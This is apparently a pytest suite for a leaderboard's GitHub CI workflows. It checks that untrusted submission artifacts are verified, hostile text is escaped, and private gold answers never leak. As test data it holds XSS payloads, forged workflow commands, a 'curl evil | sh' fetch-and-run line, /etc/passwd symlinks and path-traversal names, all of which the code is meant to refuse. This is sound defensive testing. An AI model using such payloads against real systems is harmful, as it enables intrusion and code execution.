"""The workflow steps run locally against a fake GitHub: the runner's files, recorded API answers.

Each test runs the same ``leaderboard`` commands the workflows run, in the same order, and reads
what a runner would keep: step outputs, the job summary, annotations, artifacts and the comment.
"""

from __future__ import annotations

import base64
import io
import json
import os
import shutil
import subprocess
import tarfile
from pathlib import Path

import pytest

from leaderboard.cli import main
from leaderboard.errors import ArtifactRefused, ConfigurationError
from leaderboard.github import ci
from leaderboard.repository import Repository
from tests.conftest import CANARY, FIXTURE_REPO, PRIVATE_GOLD
from tests.fakegithub import (  # noqa: F401 - the fixtures fake_github and runner
    HEAD_SHA,
    PR,
    RECORDED,
    FakeGitHub,
    fake_github_fixture,
    outputs,
    recorded,
    runner_fixture,
)
from tests.gitrepo import GitRepo

SLUG = "octo-model"
SUBMISSION = RECORDED / "submission"


def files_of(folder: Path, prefix: str = "") -> dict[str, bytes]:
    return {prefix + p.relative_to(folder).as_posix(): p.read_bytes() for p in sorted(folder.rglob("*"))
            if p.is_file()}


@pytest.fixture(scope="module")
def pr_template(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, str]:
    """A git repository of the fixture repository, plus pull request #42's commit on top."""
    root = tmp_path_factory.mktemp("pr") / "git"
    git_repo = GitRepo(root)
    base = git_repo.commit(None, files_of(FIXTURE_REPO), "base")
    git_repo.branch("main", base)
    head = git_repo.commit(base, files_of(SUBMISSION, f"submissions/{SLUG}/"), "Add Octo Model")
    return root, head


@pytest.fixture
def pr_repo(pr_template: tuple[Path, str], tmp_path: Path) -> tuple[GitRepo, str]:
    root = tmp_path / "git"
    shutil.copytree(pr_template[0], root)
    return GitRepo(root, init=False), pr_template[1]


def run(capsys: pytest.CaptureFixture[str], *args: str | Path) -> tuple[int, str, str]:
    code = main([str(a) for a in args])
    captured = capsys.readouterr()
    return code, captured.out, captured.err


def leaks(text: str) -> bool:
    """True when private gold shows: the canary, or any per-item id of the private benchmark."""
    return CANARY in text or '"p1"' in text or "'p1'" in text or " p1 " in text


# -- submission-check.yml ---------------------------------------------------------------------------


def check_job(capsys: pytest.CaptureFixture[str], base: Repository, git_repo: GitRepo, head: str,
              runner: Path) -> tuple[list[int], str]:
    """The check job's leaderboard steps, as submission-check.yml runs them; returns exit codes and logs."""
    artifact = runner / "submission-check"
    codes, logs = [], []
    code, out, _ = run(capsys, "--root", base.root, "check-pr", "--repo", git_repo.root, "--base", "main",
                       "--head", head, "--author", "octo-contributor", "--format", "github", "--pr", PR,
                       "--artifact", artifact, "--export", base.root)
    codes.append(code)
    logs.append(out)
    slug = outputs(runner).get("slug", "")
    if slug:
        for args in (["validate", "--format", "github", base.submissions_dir / slug],
                     ["pr-summary", slug, "--artifact", artifact, "--no-cache"]):
            code, out, _ = run(capsys, "--root", base.root, *args)
            codes.append(code)
            logs.append(out)
    return codes, "\n".join(logs)


def test_the_check_job_reports_scores_rank_and_problems(fixture_repo: Repository, pr_repo: tuple[GitRepo, str],
                                                        runner: Path, capsys: pytest.CaptureFixture[str]) -> None:
    git_repo, head = pr_repo
    codes, log = check_job(capsys, fixture_repo, git_repo, head, runner)
    assert codes == [0, 0, 0]
    assert outputs(runner) == {"verdict": "submission", "slug": SLUG, "submission": "true"}
    assert "::notice title=submission::submissions/octo-model/: a valid submission pull request" in log
    assert "0 error(s), 0 warning(s)" in log  # the validate step's annotations
    summary = (runner / "summary.md").read_text()
    assert "## Pull-request scope" in summary and "## Submission check: `octo-model`" in summary
    assert "✅ valid, 0 warning(s)" in summary
    assert "#### Tiny sentiment (`tiny-sentiment`, classification)" in summary
    assert "Rank **1** of 2" in summary and "← this submission" in summary
    assert "`tiny-private`: tiny-private: the gold answers are private" in summary
    assert "### Problems (0)" in summary and "No problems found." in summary
    artifact = runner / "submission-check"
    assert sorted(files_of(artifact)) == ["pr.json", "report.json", "submission/metadata.yaml",
                                          "submission/tiny-private.csv", "submission/tiny-sentiment.csv",
                                          "summary.md"]
    assert json.loads((artifact / "pr.json").read_text()) == {"pr": PR, "head_sha": head, "verdict": "submission",
                                                              "slug": SLUG}
    assert files_of(artifact / "submission") == files_of(SUBMISSION)


def test_the_check_job_stops_early_when_no_submission_changed(fixture_repo: Repository,
                                                              pr_repo: tuple[GitRepo, str], runner: Path,
                                                              capsys: pytest.CaptureFixture[str]) -> None:
    git_repo, _ = pr_repo
    head = git_repo.commit("main", {"README.md": b"# A typo fix\n"})
    codes, log = check_job(capsys, fixture_repo, git_repo, head, runner)
    assert codes == [0] and log.startswith("::notice title=review::not a submission")
    assert outputs(runner) == {"verdict": "review", "slug": "", "submission": "false"}
    assert "needs a maintainer's review" in (runner / "summary.md").read_text()
    assert json.loads((runner / "submission-check" / "pr.json").read_text())["verdict"] == "review"
    assert not (runner / "submission-check" / "submission").exists()


def test_hostile_text_is_neutralised_in_annotations_summary_and_logs(
        fixture_repo: Repository, pr_repo: tuple[GitRepo, str], runner: Path,
        capsys: pytest.CaptureFixture[str]) -> None:
    git_repo, _ = pr_repo
    hostile = '"<img src=x onerror=alert(1)> @octocat | cell\n::error::forged"'
    predictions = (SUBMISSION / "tiny-sentiment.csv").read_text().replace("s1,positive", f"s1,{hostile}")
    assert predictions != (SUBMISSION / "tiny-sentiment.csv").read_text()
    head = git_repo.commit("main", {**files_of(SUBMISSION, f"submissions/{SLUG}/"),
                                    f"submissions/{SLUG}/tiny-sentiment.csv": predictions.encode()})
    codes, log = check_job(capsys, fixture_repo, git_repo, head, runner)
    assert codes[0] == 0  # the guard only judges the scope; validation judges the contents
    # Annotations: the message is escaped, so the forged command cannot start a line.
    assert "%0A::error::forged" in log
    assert "\n::error::forged" not in log.split("::stop-commands::")[0]
    # Logs quoting contributor text are fenced off from workflow commands.
    fenced = log.split("::stop-commands::", 1)[1]
    token = fenced.split("\n", 1)[0]
    # ... and a problem line never holds a raw line break (issue 13: written as \u000a)
    assert "\\u000a::error::forged" in fenced.split(f"::{token}::")[0] and len(token) == 32
    summary = (runner / "summary.md").read_text()
    assert "<img" not in summary and "@octocat" not in summary and "\n::error::forged" not in summary
    assert "&lt;img src=x onerror=alert\\(1\\)&gt; @\u200boctocat \\| cell ::error::forged" in summary


# -- submission-report.yml ----------------------------------------------------------------------


def untrusted_artifact(runner: Path, hint: dict[str, object] | None = None) -> Path:
    """The check's artifact as download-artifact leaves it in runner.temp."""
    folder = runner / "untrusted"
    shutil.copytree(SUBMISSION, folder / "submission")
    hint = hint or {"pr": PR, "head_sha": HEAD_SHA, "verdict": "submission", "slug": SLUG}
    (folder / "pr.json").write_text(json.dumps(hint))
    (folder / "report.json").write_text('{"scores": "rank 1 everywhere"}')
    (folder / "summary.md").write_text("<script>alert(1)</script>")
    return folder


def test_the_report_workflow_end_to_end(fixture_repo: Repository, fake_github: FakeGitHub, runner: Path,
                                        private_gold: Path, capsys: pytest.CaptureFixture[str]) -> None:
    untrusted = untrusted_artifact(runner)
    verified, comment = runner / "verified", runner / "comment" / "comment.md"
    code, out, err = run(capsys, "--root", fixture_repo.root, "pr-verify", "--artifact", untrusted,
                         "--output", verified)
    assert (code, err) == (0, "")
    assert out.strip() == f"verified #{PR}: submissions/{SLUG}/ at {HEAD_SHA[:12]}, 3 file(s)"
    assert outputs(runner) == {"pr": str(PR), "slug": SLUG, "head_sha": HEAD_SHA}
    assert sorted(files_of(verified)) == ["pr.json", "submission/metadata.yaml", "submission/tiny-private.csv",
                                          "submission/tiny-sentiment.csv"]  # report.json, summary.md dropped
    asked = [(r.method, r.path) for r in fake_github.requests]
    assert asked == [("GET", "/repos/openanote/leaderboard/pulls/42"),
                     ("GET", "/repos/openanote/leaderboard/pulls/42/files"),
                     ("GET", "/repos/openanote/leaderboard/contents/submissions/octo-model")]
    assert fake_github.requests[2].query == f"ref={HEAD_SHA}"
    assert all(r.authorization == "Bearer ghs_fake-token-for-tests" for r in fake_github.requests)

    cache = fixture_repo.root / ".leaderboard-cache"
    cached_before = sorted(cache.rglob("*")) if cache.exists() else []
    code, out, err = run(capsys, "--root", fixture_repo.root, "pr-report", verified, "--output", comment)
    assert (code, err) == (0, "")
    assert (sorted(cache.rglob("*")) if cache.exists() else []) == cached_before  # no result cache written
    body = comment.read_text()
    assert body.startswith("<!-- openanote-leaderboard:submission-report -->\n## Leaderboard report for `octo-model`")
    assert "#### Tiny private QA (`tiny-private`, prompting)" in body  # scored with the private gold
    assert "| **Token F1** | 33.3 |" in body and "✅ The submission is valid." in body
    assert len(body) < 65_536

    code, out, err = run(capsys, "--root", fixture_repo.root, "pr-comment", "--pr", outputs(runner)["pr"],
                         "--body-file", comment)
    assert (code, err) == (0, "")
    assert out.strip() == "updated the report comment on #42: https://github.com/openanote/leaderboard/pull/42#issuecomment-503"
    edit = fake_github.requests[-1]
    assert (edit.method, edit.path) == ("PATCH", "/repos/openanote/leaderboard/issues/comments/503")
    assert edit.body == {"body": body}  # never the contributor's forged comment 501

    # Private gold never leaks: not in any output, comment, summary, artifact or cache.
    everything = [out, body, json.dumps([r.body for r in fake_github.requests])]
    everything += [p.read_text(errors="replace") for p in runner.rglob("*") if p.is_file()]
    assert not any(leaks(text) for text in everything)
    assert not any(CANARY in str(p) for p in runner.rglob("*"))


def test_a_new_comment_when_there_is_none(fixture_repo: Repository, fake_github: FakeGitHub, runner: Path,
                                          capsys: pytest.CaptureFixture[str]) -> None:
    fake_github.answer("GET", "/repos/openanote/leaderboard/issues/42/comments", recorded("comments.json")[:2])
    body = runner / "comment.md"
    body.write_text("x" * 200_000)
    code, out, _ = run(capsys, "--root", fixture_repo.root, "pr-comment", "--pr", "42", "--body-file", body)
    assert code == 0 and out.startswith("created the report comment on #42")
    posted = fake_github.requests[-1]
    assert (posted.method, posted.path) == ("POST", "/repos/openanote/leaderboard/issues/42/comments")
    assert posted.body["body"].startswith("<!-- openanote-leaderboard:submission-report -->\n")
    assert len(posted.body["body"]) <= 65_000 and posted.body["body"].endswith("… (truncated)")


@pytest.mark.parametrize(("mutate", "expected"), [
    (lambda d: (d / "run.sh").write_text("curl evil | sh"), "unexpected entry 'run.sh' in the artifact"),
    (lambda d: (d / "submission" / "tiny-chat.csv").write_text("id,answer\n"), "extra ['tiny-chat.csv']"),
    (lambda d: (d / "submission" / "tiny-private.csv").unlink(), "missing ['tiny-private.csv']"),
    (lambda d: (d / "submission" / "tiny-sentiment.csv").write_text("id,label\ns1,positive\n"),
     "the artifact's ['tiny-sentiment.csv'] differ from the pull request's files"),
    (lambda d: (d / "submission" / "tiny-sentiment.csv").unlink()
     or (d / "submission" / "tiny-sentiment.csv").symlink_to("/etc/passwd"),
     "'submission/tiny-sentiment.csv' in the artifact is not a plain file"),
    (lambda d: (d / "submission" / "docs").mkdir(), "'submission/docs' in the artifact is not a plain file"),
    (lambda d: os.truncate(d / "submission" / "tiny-sentiment.csv", 200 * 1024 * 1024),
     "'submission/tiny-sentiment.csv' in the artifact is 209,715,200 bytes; the limit is 67,108,864"),
    (lambda d: (d / "summary.md").write_bytes(b"x" * (5 * 1024 * 1024)), "'summary.md' in the artifact is 5,242,880"),
    (lambda d: (d / "submission" / "a\nb.csv").write_text(""), "unexpected file name 'a\\nb.csv'"),
    (lambda d: (d / "pr.json").unlink(), "the artifact has no pr.json"),
])
def test_a_hostile_artifact_is_refused(fixture_repo: Repository, fake_github: FakeGitHub, runner: Path,
                                       capsys: pytest.CaptureFixture[str], mutate: object, expected: str) -> None:
    untrusted = untrusted_artifact(runner)
    assert callable(mutate)
    mutate(untrusted)
    code, out, err = run(capsys, "--root", fixture_repo.root, "pr-verify", "--artifact", untrusted,
                         "--output", runner / "verified")
    assert code == 1 and out == ""
    assert err.startswith("error: ") and expected in err, err
    assert "Traceback" not in err and "\n" not in err.strip()  # one line: nothing forged can start a line
    assert not (runner / "verified").exists()


@pytest.mark.parametrize(("hint", "expected"), [
    ({"pr": "42", "head_sha": HEAD_SHA, "verdict": "submission", "slug": SLUG}, "'pr' must be a pull request number"),
    ({"pr": True, "head_sha": HEAD_SHA, "verdict": "submission", "slug": SLUG}, "'pr' must be a pull request number"),
    ({"pr": 42, "head_sha": HEAD_SHA, "verdict": "submission", "slug": SLUG, "x": 1}, "exactly the keys"),
    ({"pr": 42, "head_sha": "HEAD", "verdict": "submission", "slug": SLUG}, "40-character commit id"),
    ({"pr": 42, "head_sha": HEAD_SHA, "verdict": "submission", "slug": "../../etc"}, "'slug' must be"),
    ({"pr": 42, "head_sha": HEAD_SHA, "verdict": "approved", "slug": SLUG}, "'verdict' must be one of"),
    ({"pr": 42, "head_sha": "0" * 40, "verdict": "submission", "slug": SLUG},
     "the artifact names commit 000000000000, but the run checked 8d3c1e0b6f2a"),
    ({"pr": 7, "head_sha": HEAD_SHA, "verdict": "submission", "slug": SLUG}, "GET /repos/openanote/leaderboard/pulls/7: HTTP 404 (Not Found)"),
])
def test_the_pr_number_and_the_rest_of_pr_json_are_hints_only(
        fixture_repo: Repository, fake_github: FakeGitHub, runner: Path, capsys: pytest.CaptureFixture[str],
        hint: dict[str, object], expected: str) -> None:
    untrusted = untrusted_artifact(runner, hint)
    code, _, err = run(capsys, "--root", fixture_repo.root, "pr-verify", "--artifact", untrusted,
                       "--output", runner / "verified")
    assert code == 1 and expected in err, err


def test_json_constants_and_junk_are_refused() -> None:
    for data in (b'{"pr": NaN}', b"\xff", b"[1]", b"x" * 5000):
        with pytest.raises(ArtifactRefused):
            ci.parse_hint(data)


def pull_with(**changes: object) -> dict[str, object]:
    pull = recorded("pull.json")
    for dotted, value in changes.items():
        target = pull
        *parents, last = dotted.split("__")
        for key in parents:
            target = target[key]
        target[last] = value
    return dict(pull)


@pytest.mark.parametrize(("route", "value", "expected"), [
    ("pulls/42", pull_with(head__repo__full_name="someone-else/leaderboard"), "does not come from the run's repository"),
    ("pulls/42", pull_with(base__repo__full_name="octo-contributor/leaderboard"), "does not target openanote/leaderboard"),
    ("pulls/42", pull_with(base__ref="release"), "does not target the default branch main"),
    ("pulls/42/files", [*recorded("pull_files.json"), {"filename": ".github/workflows/publish.yml", "status": "modified"}],
     "changes '.github/workflows/publish.yml', outside submissions/octo-model/"),
    ("pulls/42/files", [{"filename": "submissions/octo-model/tiny-chat.csv", "status": "removed"}],
     "removed 'submissions/octo-model/tiny-chat.csv'"),
    ("contents/submissions/octo-model", [{**item, "type": "symlink"} for item in recorded("contents.json")],
     "is not a plain file"),
])
def test_what_the_api_says_decides(fixture_repo: Repository, fake_github: FakeGitHub, runner: Path,
                                   capsys: pytest.CaptureFixture[str], route: str, value: object, expected: str) -> None:
    fake_github.answer("GET", f"/repos/openanote/leaderboard/{route}", value)
    code, _, err = run(capsys, "--root", fixture_repo.root, "pr-verify", "--artifact", untrusted_artifact(runner),
                       "--output", runner / "verified")
    assert code == 1 and expected in err, err


@pytest.mark.parametrize("pull", [pull_with(state="closed"), pull_with(head__sha="f" * 40)])
def test_a_stale_run_reports_nothing(fixture_repo: Repository, fake_github: FakeGitHub, runner: Path,
                                     capsys: pytest.CaptureFixture[str], pull: dict[str, object]) -> None:
    fake_github.answer("GET", "/repos/openanote/leaderboard/pulls/42", pull)
    code, out, _ = run(capsys, "--root", fixture_repo.root, "pr-verify", "--artifact", untrusted_artifact(runner),
                       "--output", runner / "verified")
    assert code == 0 and out.startswith("nothing to report: pull request #42 ")
    assert outputs(runner) == {"pr": "", "slug": "", "head_sha": ""}


def test_no_submission_means_no_report(fixture_repo: Repository, fake_github: FakeGitHub, runner: Path,
                                       capsys: pytest.CaptureFixture[str]) -> None:
    untrusted = untrusted_artifact(runner, {"pr": PR, "head_sha": HEAD_SHA, "verdict": "review", "slug": None})
    shutil.rmtree(untrusted / "submission")
    code, out, _ = run(capsys, "--root", fixture_repo.root, "pr-verify", "--artifact", untrusted,
                       "--output", runner / "verified")
    assert (code, out.strip()) == (0, "nothing to report: the check's verdict was 'review'")
    assert outputs(runner)["slug"] == "" and fake_github.requests == []


def test_an_existing_folder_is_reported_only_for_its_maintainers(
        fixture_repo: Repository, fake_github: FakeGitHub, runner: Path, capsys: pytest.CaptureFixture[str]) -> None:
    owned = fixture_repo.submissions_dir / SLUG
    shutil.copytree(fixture_repo.submissions_dir / "good-model", owned)  # maintainers: [fixture-maintainer]
    code, _, err = run(capsys, "--root", fixture_repo.root, "pr-verify", "--artifact", untrusted_artifact(runner),
                       "--output", runner / "verified")
    assert code == 1 and "belongs to fixture-maintainer" in err and "octo-contributor is not one of them" in err


def test_the_event_must_be_a_pull_request_run(fixture_repo: Repository, fake_github: FakeGitHub, runner: Path,
                                              capsys: pytest.CaptureFixture[str]) -> None:
    event = json.loads((runner / "event.json").read_text())
    event["workflow_run"]["event"] = "push"
    (runner / "event.json").write_text(json.dumps(event))
    code, _, err = run(capsys, "--root", fixture_repo.root, "pr-verify", "--artifact", untrusted_artifact(runner),
                       "--output", runner / "verified")
    assert code == 1 and "was not a pull_request run" in err


# -- the private gold --------------------------------------------------------------------------------


def gold_archive(members: dict[str, bytes], links: dict[str, str] | None = None) -> str:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as tar:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
        for name, target in (links or {}).items():
            info = tarfile.TarInfo(name)
            info.type, info.linkname = tarfile.SYMTYPE, target
            tar.addfile(info)
    return base64.b64encode(buffer.getvalue()).decode()


def test_unpack_gold_writes_only_gold_files_and_prints_no_content(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    gold = (PRIVATE_GOLD / "tiny-private" / "gold.jsonl").read_bytes()
    monkeypatch.setenv(ci.GOLD_ARCHIVE_ENV, gold_archive({"./tiny-private/gold.jsonl": gold}))
    code, out, err = run(capsys, "--root", FIXTURE_REPO, "unpack-gold", "-o", tmp_path / "gold")
    assert (code, out.strip(), err) == (0, "private gold for 1 benchmark(s): tiny-private", "")
    assert (tmp_path / "gold" / "tiny-private" / "gold.jsonl").read_bytes() == gold
    assert (tmp_path / "gold" / "tiny-private" / "gold.jsonl").stat().st_mode & 0o077 == 0
    monkeypatch.delenv(ci.GOLD_ARCHIVE_ENV)
    code, out, _ = run(capsys, "--root", FIXTURE_REPO, "unpack-gold", "-o", tmp_path / "none")
    assert (code, out.strip()) == (0, "private gold for 0 benchmark(s): none configured")


def test_the_documented_archive_command_works(tmp_path: Path) -> None:
    """CONTRIBUTING.md: the secret is `tar czf - -C gold . | base64 -w0`."""
    archive = subprocess.run(["tar", "czf", "-", "-C", str(PRIVATE_GOLD), "."], capture_output=True, check=True)
    ids = ci.unpack_private_gold(base64.b64encode(archive.stdout).decode(), tmp_path / "gold")
    assert ids == ["tiny-private"]
    assert files_of(tmp_path / "gold") == files_of(PRIVATE_GOLD)


def test_pr_summary_needs_an_installed_submission(fixture_repo: Repository, capsys: pytest.CaptureFixture[str]) -> None:
    code, _, err = run(capsys, "--root", fixture_repo.root, "pr-summary", "../../etc")
    assert code == 1 and "submissions/../../etc: no such submission folder" in err


@pytest.mark.parametrize(("archive", "expected"), [
    (gold_archive({"../escape/gold.jsonl": b"x"}), "member '../escape/gold.jsonl' is not a <benchmark-id>/gold"),
    (gold_archive({}, {"tiny-private/gold.jsonl": "/etc/passwd"}), "member 'tiny-private/gold.jsonl' is not"),
    (gold_archive({"tiny-private/run.sh": b"x"}), "member 'tiny-private/run.sh' is not"),
    ("not base64!", "is not base64"),
    (base64.b64encode(b"plain text").decode(), "is not a readable .tar.gz archive (ReadError)"),
])
def test_a_bad_gold_archive_is_refused_without_quoting_it(tmp_path: Path, archive: str, expected: str) -> None:
    with pytest.raises(ConfigurationError) as raised:
        ci.unpack_private_gold(archive, tmp_path / "gold")
    assert expected in str(raised.value) and CANARY not in str(raised.value)
    assert not (tmp_path / "escape").exists() and not any((tmp_path / "gold").rglob("*.sh"))


def test_the_check_summary_never_shows_private_results(fixture_repo: Repository, pr_repo: tuple[GitRepo, str],
                                                       runner: Path, private_gold: Path,
                                                       capsys: pytest.CaptureFixture[str]) -> None:
    """Even if a check job were given the gold by mistake, it would show aggregates only."""
    git_repo, head = pr_repo
    codes, log = check_job(capsys, fixture_repo, git_repo, head, runner)
    assert codes == [0, 0, 0]
    texts = [log, (runner / "summary.md").read_text()]
    texts += [p.read_text() for p in (runner / "submission-check").glob("*.*")]
    assert not any(leaks(text) for text in texts)


def test_hostile_submission_text_is_neutralised_in_the_comment(
        fixture_repo: Repository, fake_github: FakeGitHub, runner: Path, capsys: pytest.CaptureFixture[str]) -> None:
    untrusted = untrusted_artifact(runner)
    metadata = untrusted / "submission" / "metadata.yaml"
    hostile = "'<img src=x onerror=alert(1)> @maintainers | ::error::x [link](javascript:alert(1))'"
    metadata.write_text(metadata.read_text().replace("model_name: Octo Model", f"model_name: {hostile}"))
    listing = [{**item, "sha": ci.git_blob_sha((untrusted / "submission" / item["name"]).read_bytes())}
               for item in recorded("contents.json")]
    fake_github.answer("GET", "/repos/openanote/leaderboard/contents/submissions/octo-model", listing)
    verified, comment = runner / "verified", runner / "comment.md"
    assert run(capsys, "--root", fixture_repo.root, "pr-verify", "--artifact", untrusted, "--output", verified)[0] == 0
    assert run(capsys, "--root", fixture_repo.root, "pr-report", verified, "--output", comment)[0] == 0
    body = comment.read_text()
    assert "&lt;img src=x onerror=alert\\(1\\)&gt; @\u200bmaintainers \\| ::error::x \\[link\\]\\(javascript:alert\\(1\\)\\)" in body
    assert "<img" not in body and "@maintainers" not in body and "](javascript" not in body
